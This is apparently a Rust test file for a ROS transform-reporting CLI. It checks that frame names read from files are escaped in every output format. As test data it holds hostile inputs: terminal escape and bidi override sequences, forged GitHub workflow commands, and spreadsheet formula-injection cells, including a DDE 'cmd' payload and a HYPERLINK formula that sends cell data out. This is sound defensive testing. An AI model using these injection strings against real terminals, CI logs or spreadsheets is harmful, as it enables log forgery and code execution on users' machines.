//! Issue 12: names from files cannot act on a terminal or a CI log. Control
//! characters and bidi overrides are shown as escapes in text, markdown and
//! terminal messages, markdown escapes `|` and `<`, nothing a file holds can
//! start a line of output (a GitHub workflow command), and JSON stays exact.

use crate::common::run_cli;
use std::path::{Path, PathBuf};

const ESC_NAME: &str = "lidar\x1b[31m\u{202e}x|<b>";
const ESC_SHOWN: &str = "lidar\\x1b[31m\\u{202e}x|<b>";
const FORGED: &str = "::error::FORGED";

fn tf_line(parent: &str, child: &str) -> String {
    format!("ros2 run tf2_ros static_transform_publisher 0 0 0.1 0 0 0 {parent} {child}\n")
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

/// No raw ESC, BEL or bidi override, and no line that a CI log would run
/// (`##` only outside markdown, whose headings start so).
fn inert(what: &str, s: &str) {
    assert!(
        !s.contains(['\x1b', '\x07', '\u{202e}']),
        "{what}: raw control character in\n{s}"
    );
    for l in s.lines() {
        let t = l.trim_start();
        let hashes = t.starts_with("##") && what != "markdown";
        assert!(!t.starts_with("::") && !hashes, "{what}: line `{l}`");
    }
}

#[test]
fn frames_tree_shows_escapes_and_guards_line_starts() {
    let d = tempfile::tempdir().unwrap();
    let f = write(d.path(), "inj.txt", &tf_line(FORGED, ESC_NAME));
    let (code, out, err) = run_cli(&[f.to_str().unwrap(), "--frames"]);
    assert_eq!(code, 0, "{err}");
    inert("--frames", &out);
    assert!(out.starts_with("\\x3a:error::FORGED\n"), "{out}");
    assert!(out.contains(ESC_SHOWN), "{out}");
}

#[test]
fn table_and_markdown_reports_escape_names_and_json_stays_exact() {
    let d = tempfile::tempdir().unwrap();
    let f = write(d.path(), "inj.txt", &tf_line("body", ESC_NAME));
    let f = f.to_str().unwrap();
    let args = [f, "--from", "body", "--to", ESC_NAME];

    let (code, out, err) = run_cli(&[&args[..], &["--format", "table"]].concat());
    assert_eq!(code, 0, "{err}");
    inert("table", &out);
    assert!(
        out.contains(&format!("Transform body -> {ESC_SHOWN}")),
        "{out}"
    );

    let (code, out, err) = run_cli(&[&args[..], &["--format", "markdown"]].concat());
    assert_eq!(code, 0, "{err}");
    inert("markdown", &out);
    let row = "| 1 | body -> lidar\\x1b[31m\\u{202e}x\\|&lt;b> |";
    assert!(out.contains(row), "{out}");
    assert!(
        out.contains("### Transform body -> lidar\\x1b[31m\\u{202e}x\\|&lt;b>"),
        "{out}"
    );

    let (code, out, err) = run_cli(&[&args[..], &["--format", "json"]].concat());
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["to"].as_str(), Some(ESC_NAME), "{v}");
}

#[test]
fn check_text_and_markdown_cannot_forge_workflow_commands() {
    let d = tempfile::tempdir().unwrap();
    let f = write(d.path(), "a.txt", &tf_line("body", "lidar"));
    let f = f.to_str().unwrap();
    let b = d.path().join("b.json");
    let (code, _, err) = run_cli(&["check", f, "--write-baseline", b.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let forged = "lidar\n::error file=README.md,line=1::FORGED";
    std::fs::write(
        f,
        tf_line("body", FORGED) + &tf_line("body", "lidar\x1b]0;x\x07"),
    )
    .unwrap();
    for format in ["text", "markdown"] {
        let (code, out, err) = run_cli(&[
            "check",
            f,
            "--baseline",
            b.to_str().unwrap(),
            "--format",
            format,
        ]);
        assert_eq!(code, 1, "{format}: {out}{err}");
        inert(format, &out);
        inert(format, &err);
        assert!(
            out.contains("edge body -> lidar\\x1b]0;x\\x07 is not in the baseline"),
            "{out}"
        );
    }
    // A line break in a name is refused where it is read, the name escaped.
    let y = write(
        d.path(),
        "t.yaml",
        &format!(
            "transforms:\n- header:\n    frame_id: body\n  child_frame_id: {}\n  transform:\n    translation: {{x: 0, y: 0, z: 0.1}}\n    rotation: {{x: 0, y: 0, z: 0, w: 1}}\n",
            serde_json::to_string(forged).unwrap()
        ),
    );
    let y = y.to_str().unwrap();
    for format in ["text", "markdown"] {
        let (code, out, err) = run_cli(&["check", y, "--format", format]);
        assert_eq!(code, 1, "{out}{err}");
        inert(format, &out);
        assert!(out.contains("lidar\\n::error file=README.md"), "{out}");
    }
    // `--format github`: one annotation, its own escaping (%0A) kept.
    let (code, out, err) = run_cli(&["check", y, "--format", "github"]);
    assert_eq!(code, 1, "{out}{err}");
    let commands: Vec<&str> = out.lines().filter(|l| l.starts_with("::")).collect();
    assert_eq!(commands.len(), 1, "{out}");
    assert!(commands[0].starts_with("::error file="), "{out}");
}

#[test]
fn error_messages_on_stderr_are_escaped_under_every_format() {
    let d = tempfile::tempdir().unwrap();
    let f = write(
        d.path(),
        "inj.txt",
        &(tf_line("body", ESC_NAME) + &tf_line("body", FORGED)),
    );
    for format in ["github", "table", "markdown", "json"] {
        let (code, out, err) = run_cli(&[
            f.to_str().unwrap(),
            "--from",
            "body",
            "--to",
            "nope",
            "--format",
            format,
        ]);
        assert_eq!(code, 2, "{out}{err}");
        inert(format, &err);
        assert!(err.contains(ESC_SHOWN), "{err}");
    }
}

/// MCAP carries names as JSON strings inside a binary container: exact
/// (escapes, bidi overrides and a forged workflow command included), never a
/// line of a terminal or a log.
#[test]
fn mcap_keeps_names_exact_inside_its_json() {
    let d = tempfile::tempdir().unwrap();
    let f = write(d.path(), "inj.txt", &tf_line(FORGED, ESC_NAME));
    let out = d.path().join("inj.mcap");
    let (code, stdout, err) = run_cli(&[
        f.to_str().unwrap(),
        "--from",
        FORGED,
        "--to",
        ESC_NAME,
        "--format",
        "mcap",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(stdout.is_empty());
    let r = crate::mcap_export::read(&out);
    let t = &r.topics["/tf"][0]["transforms"][0];
    assert_eq!(t["parent_frame_id"].as_str(), Some(FORGED));
    assert_eq!(t["child_frame_id"].as_str(), Some(ESC_NAME));
    assert_eq!(r.metadata["to"], ESC_NAME);
}

/// RFC 4180 rows: quoted fields with doubled quotes, line breaks inside quotes.
pub fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// Issue 27, forgery: a CSV cell that a spreadsheet would evaluate (it
/// begins with `=`, `+`, `-`, `@`, a tab, a CR or a LF) is written as OWASP
/// says (a `'` prepended, quoted, quotes doubled), whatever column it is in;
/// a plain decimal number, negative ones included, stays a bare number
/// (pandas reads the column as floats).
#[test]
fn csv_cells_are_never_formulas_and_numbers_stay_numbers() {
    let d = tempfile::tempdir().unwrap();
    let rig = std::fs::read_to_string("calibrations/geode-alpha-vlp16.toml").unwrap();
    let hostile = [
        "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tlidar",
        "\rlidar",
        "\nlidar",
        "-0.3640",
    ];
    let mut args = Vec::new();
    for (i, id) in hostile.iter().enumerate() {
        let text = rig.replacen(
            "id = \"geode-alpha-vlp16\"",
            &format!("id = {}", serde_json::to_string(id).unwrap()),
            1,
        );
        assert_ne!(text, rig);
        args.push(write(d.path(), &format!("r{i}.toml"), &text));
    }
    let mut cli = vec!["survey", "--format", "csv"];
    cli.extend(args.iter().map(|p| p.to_str().unwrap()));
    let (code, out, err) = run_cli(&cli);
    assert_eq!(code, 0, "{err}");
    let rows = csv_rows(&out);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (id, h) = (col("id"), col("screw_translation_m"));
    assert_eq!(rows.len(), hostile.len() + 1, "{out}");
    for want in hostile {
        let shown = if want == "-0.3640" {
            want.to_string() // a number stays a number
        } else {
            // Written quoted: no spreadsheet splits the cell or reads past the quote.
            let written = format!("\"'{}\"", want.replace('"', "\"\""));
            assert!(out.contains(&written), "{written:?} in\n{out}");
            format!("'{want}")
        };
        let r = rows
            .iter()
            .find(|r| r[id] == shown)
            .unwrap_or_else(|| panic!("{shown:?} in\n{out}"));
        // The negative screw translation of GEODE alpha (-0.2314 m): bare.
        assert!(
            r[h].starts_with('-') && r[h].parse::<f64>().is_ok(),
            "{:?}",
            r[h]
        );
        assert!(out.contains(&format!(",{},", r[h])), "{out}");
    }
}
